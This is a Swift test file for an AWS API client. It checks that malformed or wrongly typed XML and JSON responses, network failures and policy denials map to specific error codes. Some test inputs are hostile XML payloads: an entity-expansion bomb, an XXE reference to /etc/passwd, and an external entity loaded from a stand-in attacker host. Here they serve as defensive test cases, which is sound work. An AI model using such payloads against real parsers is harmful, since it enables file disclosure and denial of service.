import AWSModels
import Documents
import HTTP
import Testing

@testable import AWS

/// Answers with status 200 that are none: each ends in a code, none in an empty result.
struct BadAnswerTests {
    struct Operation: Sendable, CustomTestStringConvertible {
        let service: String
        let name: String
        var input: JSON = [:]
        var testDescription: String { "\(service):\(name)" }
    }

    static let xml = [
        Operation(service: "iam", name: "ListUsers"), Operation(service: "ec2", name: "DescribeVolumes"),
        Operation(service: "s3", name: "GetBucketVersioning", input: ["Bucket": "some-bucket"]),
        Operation(service: "s3", name: "GetBucketEncryption", input: ["Bucket": "some-bucket"]),
    ]
    static let json = [
        Operation(service: "cloudtrail", name: "DescribeTrails"),
        Operation(service: "guardduty", name: "GetDetector", input: ["DetectorId": "d"]),
    ]

    private func result(
        _ operation: Operation, _ body: String, _ headers: [String: String] = [:]
    ) async -> Result<JSON, AWSError> {
        let (client, transport) = Fixtures.client([.response(200, body, headers)])
        do throws(AWSError) {
            return .success(
                try await client.call(operation.service, operation.name, operation.input, region: "eu-west-1"))
        } catch {
            #expect(transport.requests.count == 1, "nothing gets better by asking again")
            return .failure(error)
        }
    }

    private func code(_ operation: Operation, _ body: String, _ headers: [String: String] = [:]) async -> String {
        switch await result(operation, body, headers) {
        case .success(let output): "success: \(output.text())"
        case .failure(let error): error.code.rawValue
        }
    }

    private static let page = "<!DOCTYPE html><html><head><title>Sign in</title></head><body><p>Hello</body></html>"
    private static let tidyPage = "<html><head><title>Sign in</title></head><body><p>Hello</p></body></html>"
    /// Ten levels of ten entities each would be 10 GB of text.
    private static let bomb: String = {
        var text = "<!DOCTYPE x [<!ENTITY a0 \"aaaaaaaaaa\">"
        for level in 1...10 {
            text += "<!ENTITY a\(level) \"\(String(repeating: "&a\(level - 1);", count: 10))\">"
        }
        return text + "]><x>&a10;</x>"
    }()

    @Test(
        arguments: xml,
        [
            "", " ", "<", "<A>", "<A><B></A></B>", "<A>&unknown;</A>", "<A b=1/>", "\u{0}", "{\"Users\": []}", "null",
            "<A/><A/>", "<A>\u{1}</A>", page, tidyPage, bomb,
            "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><x/>",
            "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/\"> %p;]><x/>",
            String(repeating: "<a>", count: 10_000) + String(repeating: "</a>", count: 10_000),
            String(repeating: "<a>", count: 10_000),
            "<Error><Code>InternalError</Code><Message>after all</Message></Error>",
            "<R><Other><member/></Other></R>", "just text",
        ])
    func refusesBadXML(_ operation: Operation, _ body: String) async {
        #expect(await code(operation, body) == "MalformedResponse")
        #expect(await code(operation, body, ["Content-Type": "text/xml; charset=utf-8"]) == "MalformedResponse")
        #expect(await code(operation, body, ["content-type": "Text/HTML; charset=utf-8"]) == "UnexpectedContentType")
    }

    @Test(
        arguments: json,
        [
            "", " ", "{", "{\"a\": }", "[]", "null", "true", "1", "\"text\"", "{} {}", "{\"a\": 1e999}", page, tidyPage,
            "{\"error\": \"sign in\"}", "<R/>", "{\"trailList\": [}", "\u{FEFF}", "{\"trailList\": \"\u{1}\"}",
            String(repeating: "[", count: 10_000) + String(repeating: "]", count: 10_000),
            String(repeating: "{\"a\":", count: 10_000) + "1" + String(repeating: "}", count: 10_000),
        ])
    func refusesBadJSON(_ operation: Operation, _ body: String) async {
        #expect(await code(operation, body) == "MalformedResponse")
        #expect(await code(operation, body, ["Content-Type": "application/json"]) == "MalformedResponse")
        #expect(await code(operation, body, ["Content-Type": "text/plain"]) == "UnexpectedContentType")
    }

    private func iam(_ inner: String) -> String { "<R><ListUsersResult>\(inner)</ListUsersResult></R>" }

    @Test(arguments: [
        "<Groups><member/></Groups>", "<Users>all of them</Users>", "<Users><member>a</member></Users>",
        "<Users><member><UserName><b>a</b></UserName></member></Users>",
        "<Users><member><CreateDate>soon</CreateDate></member></Users>",
        "<Users/><IsTruncated>maybe</IsTruncated>", "<Users/><IsTruncated><b/></IsTruncated>",
    ])
    func refusesWrongTypesInXML(_ inner: String) async {
        #expect(await code(Self.xml[0], iam(inner)) == "MalformedResponse")
    }

    @Test(arguments: ["<size>large</size>", "<size>1.5</size>", "<size></size>", "<encrypted>perhaps</encrypted>"])
    func refusesWrongScalarsInXML(_ inner: String) async {
        let body = "<DescribeVolumesResponse><volumeSet><item>\(inner)</item></volumeSet></DescribeVolumesResponse>"
        #expect(await code(Self.xml[1], body) == "MalformedResponse")
    }

    @Test(arguments: [
        #"{"trailList": {}}"#, #"{"trailList": "a"}"#, #"{"trailList": [1]}"#, #"{"trailList": [{"Name": 1}]}"#,
        #"{"trailList": [{"Name": {"a": 1}}]}"#, #"{"trailList": [{"Name": ["a"]}]}"#,
        #"{"trailList": [{"Name": true}]}"#,
        #"{"trailList": [{"IsMultiRegionTrail": "true"}]}"#, #"{"trailList": [{"IsMultiRegionTrail": 1}]}"#,
        #"{"trailList": [["a"]]}"#,
    ])
    func refusesWrongTypesInJSON(_ body: String) async {
        #expect(await code(Self.json[0], body) == "MalformedResponse")
    }

    @Test(arguments: [
        #"{"status": "ENABLED", "tags": []}"#, #"{"status": "ENABLED", "tags": {"a": 1}}"#,
        #"{"status": 1}"#, #"{"dataSources": []}"#, #"{"dataSources": "x"}"#,
    ])
    func refusesWrongTypesInREST(_ body: String) async {
        #expect(await code(Self.json[1], body) == "MalformedResponse")
    }

    @Test func keepsUnknownValuesOfEnumerations() async throws {
        let detector = try await result(Self.json[1], #"{"status": "PAUSED", "serviceRole": "r"}"#).get()
        #expect(detector["Status"] == "PAUSED")
        let versioning = try await result(
            Self.xml[2], "<VersioningConfiguration><Status>Paused</Status></VersioningConfiguration>"
        ).get()
        #expect(versioning["Status"] == "Paused")
    }

    /// Labels are often wrong: what can be read is.
    @Test(arguments: ["text/html", "application/octet-stream", "", "application/x-amz-json-1.1"])
    func readsGoodAnswersWithAWrongLabel(_ label: String) async throws {
        let users = try await result(
            Self.xml[0], iam("<Users><member><UserName>a</UserName></member></Users>"), ["Content-Type": label]
        ).get()
        #expect(users["Users"] == [["UserName": "a"]])
    }

    /// A bucket's policy is a text that makes the body: a page would be one as well.
    @Test(arguments: [page, " \n<HTML><body/></HTML>", tidyPage])
    func takesNoPageForAPolicy(_ body: String) async {
        let operation = Operation(service: "s3", name: "GetBucketPolicy", input: ["Bucket": "some-bucket"])
        #expect(await code(operation, body, ["Content-Type": "text/html"]) == "UnexpectedContentType")
        #expect(await code(operation, body) == "MalformedResponse")
    }

    @Test func readsDeepAnswersUpToItsLimit() async throws {
        // The decoder goes as deep as the model, the parsers to 256 levels.
        let deep = String(repeating: "<a>", count: 250) + String(repeating: "</a>", count: 250)
        let users = try await result(Self.xml[0], iam("<Users/>" + deep)).get()
        #expect(users["Users"] == [])
    }

    @Test(arguments: [
        (HTTPError.Code.bodyTooLarge, "ResponseTooLarge", 1), (.truncated, "TruncatedResponse", 3),
        (.tooSlow, "SlowResponse", 3), (.connectionClosed, "NetworkFailure", 3),
        (.couldNotConnect, "NetworkFailure", 3),
        (.couldNotResolve, "HostNotFound", 3), (.timeout, "RequestTimeout", 3), (.tls, "TLSFailure", 1),
    ])
    func namesWhatTheNetworkDoes(_ cause: HTTPError.Code, _ wanted: String, _ attempts: Int) async {
        let (client, transport) = Fixtures.client([.failure(cause)])
        await #expect { try await client.call("iam", "ListUsers", region: "eu-west-1") } throws: { error in
            (error as? AWSError)?.code.rawValue == wanted
        }
        #expect(transport.requests.count == attempts)
    }

    @Test(arguments: [
        (
            "AccessDenied",
            "User: x is not authorized to perform: iam:ListUsers with an explicit deny in a service control policy",
            "DeniedByServiceControlPolicy"
        ),
        (
            "AccessDenied", "... because no service control policy allows the iam:ListUsers action",
            "DeniedByServiceControlPolicy"
        ),
        (
            "AccessDenied",
            "User: x is not authorized to perform: iam:ListUsers with an explicit deny in an identity-based policy",
            "AccessDenied"
        ),
        ("ValidationError", "a service control policy is too long", "ValidationError"),
    ])
    func namesDenialsByTheOrganisation(_ code: String, _ message: String, _ wanted: String) async {
        let body = "<E><Error><Code>\(code)</Code><Message>\(message)</Message></Error></E>"
        let (client, _) = Fixtures.client([.response(403, body, ["Content-Type": "text/xml"])])
        await #expect { try await client.call("iam", "ListUsers", region: "eu-west-1") } throws: { error in
            (error as? AWSError)?.code.rawValue == wanted
        }
    }

    @Test func namesServicesWithoutEndpoint() throws {
        let endpoints = try Fixtures.models.endpoints()
        let error = #expect(throws: ModelError.self) {
            try endpoints.endpoint(service: "s3", region: "cn-north-1", fips: true)
        }
        #expect(error.map { AWSError(model: $0).code } == .noEndpoint)
    }

    /// Errors that are as broken keep their status as a code.
    @Test(arguments: ["", "<", page, "{", "{\"a\": 1}", "<Error/>", "[]", bomb])
    func readsBrokenErrors(_ body: String) async {
        for operation in Self.xml + Self.json {
            let (client, _) = Fixtures.client([.response(418, body, [:])])
            await #expect {
                try await client.call(operation.service, operation.name, operation.input, region: "eu-west-1")
            } throws: { error in
                (error as? AWSError)?.code == "418"
            }
        }
    }
}
